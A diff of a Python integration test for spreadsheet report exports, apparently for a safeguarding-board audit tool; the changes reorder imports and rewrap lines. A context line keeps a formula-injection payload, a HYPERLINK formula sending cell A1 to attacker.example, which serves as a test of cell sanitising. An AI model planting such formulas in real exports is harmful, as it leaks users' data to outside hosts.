@@ -9,10 +9,10 @@ from datetime import date, datetime
 from openpyxl import load_workbook
 from sqlalchemy import insert, select, update
 
-from app.extensions import db
 from app.data.models import Answer, EvidenceItem, Membership, Response, User, answer_evidence
+from app.extensions import db
 from app.reports.exports import COLUMNS, safe_cell
-from tests.integration.report_round import BOARD_NAME, Respondent, build_round, known_round  # noqa: F401
+from tests.integration.report_round import BOARD_NAME, Respondent
 
 ATTACKS = {
     "outcomes.2": '=HYPERLINK("http://attacker.example/?d="&A1,"Click for the audit")',
@@ -123,8 +123,12 @@ def test_register_items_an_answer_cites_are_in_their_own_column(client, login, k
         .join(User, User.id == Membership.user_id)
         .where(Response.round_id == known_round.round.id, User.name == "Gareth Morgan", Answer.benchmark_id == "strategy.2")
     )
-    older = EvidenceItem(board_id=known_round.round.board_id, title="=Neglect audit", source_agency="police", evidence_date=date(2026, 1, 5), impact="Seen sooner")
-    newer = EvidenceItem(board_id=known_round.round.board_id, title="Case review", source_agency="police", evidence_date=date(2026, 4, 2), impact="Plans improved")
+    older = EvidenceItem(
+        board_id=known_round.round.board_id, title="=Neglect audit", source_agency="police", evidence_date=date(2026, 1, 5), impact="Seen sooner"
+    )
+    newer = EvidenceItem(
+        board_id=known_round.round.board_id, title="Case review", source_agency="police", evidence_date=date(2026, 4, 2), impact="Plans improved"
+    )
     db.session.add_all([older, newer])
     db.session.flush()
     db.session.execute(insert(answer_evidence), [{"answer_id": answer.id, "evidence_item_id": item.id} for item in (older, newer)])
